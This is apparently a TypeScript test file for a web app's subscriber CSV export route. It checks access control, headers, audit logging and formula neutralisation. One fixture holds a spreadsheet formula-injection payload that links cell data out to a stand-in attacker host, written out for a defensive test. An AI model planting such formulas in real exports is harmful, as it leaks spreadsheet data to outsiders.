import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { currentUser } from '@/lib/auth/session';
import { insertPerson, lastLogId, logSince } from '@/test/moderation';
import { withFreshDatabase } from '@/test/database';
import { insertSubscriber } from '@/test/subscriber-fixtures';
import { EXPORT_HEADER, subscribersCsv } from './export';

/** The CSV export as its route handler serves it: who may have it, what it holds, and no formula in any cell. */

vi.mock('next/navigation', () => import('@/test/request').then((mocks) => mocks.navigation()));
vi.mock('next/headers', () => import('@/test/request').then((mocks) => mocks.headers()));
vi.mock('@/lib/auth', () => import('@/test/request').then((mocks) => mocks.auth()));
vi.mock('@/lib/auth/session', (importActual) => import('@/test/request').then((mocks) => mocks.session(importActual)));

process.env.SITE_URL = 'http://localhost:3000';
const { connection } = withFreshDatabase();
const db = () => connection().db;
const url = (query = '') => new URL(`http://localhost:3000/admin/subscribers/export${query}`);

beforeEach(() => vi.mocked(currentUser).mockReset());

describe('the subscribers export', () => {
  it('gives staff with the permission every matching subscriber, formulas neutralised, never cached, logged', async () => {
    const editor = await insertPerson(db(), 'editor');
    vi.mocked(currentUser).mockResolvedValue(editor);
    await insertSubscriber(db(), {
      email: 'formula@export.example',
      consentSource: 'import',
      consentNote: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      consentWording: '+SUM(1,2)',
    });
    await insertSubscriber(db(), { email: 'plain@export.example', status: 'unsubscribed' });
    const logId = await lastLogId(db());

    const response = await subscribersCsv(url('?q=export.example'));

    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="subscribers-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = await response.text();
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([...EXPORT_HEADER]);
    expect(rows.map((row) => row.email).sort()).toEqual(['formula@export.example', 'plain@export.example']);
    const formula = rows.find((row) => row.email === 'formula@export.example')!;
    expect(formula.consent_note).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(formula.consent_wording).toBe(`'+SUM(1,2)`);
    expect(await logSince(db(), logId)).toEqual([
      expect.objectContaining({ action: 'subscribers-export', actorId: editor.id, after: { exported: 2, subscription: 'all' } }),
    ]);

    const unsubscribed = parse(await (await subscribersCsv(url('?q=export.example&status=unsubscribed'))).text(), { columns: true });
    expect(unsubscribed).toEqual([expect.objectContaining({ email: 'plain@export.example', status: 'unsubscribed' })]);
  });

  it('refuses a moderator (403) and sends someone signed out to sign in, logging nothing', async () => {
    const logId = await lastLogId(db());
    vi.mocked(currentUser).mockResolvedValue(await insertPerson(db(), 'moderator'));
    const refused = await subscribersCsv(url());
    expect(refused.status).toBe(403);
    expect(await refused.text()).not.toContain('@');

    vi.mocked(currentUser).mockResolvedValue(null);
    const signedOut = await subscribersCsv(url('?status=active'));
    expect(signedOut.status).toBe(303);
    expect(signedOut.headers.get('location')).toBe(
      'http://localhost:3000/signin?callbackUrl=%2Fadmin%2Fsubscribers%2Fexport%3Fstatus%3Dactive',
    );
    expect(await logSince(db(), logId)).toEqual([]);
  });
});
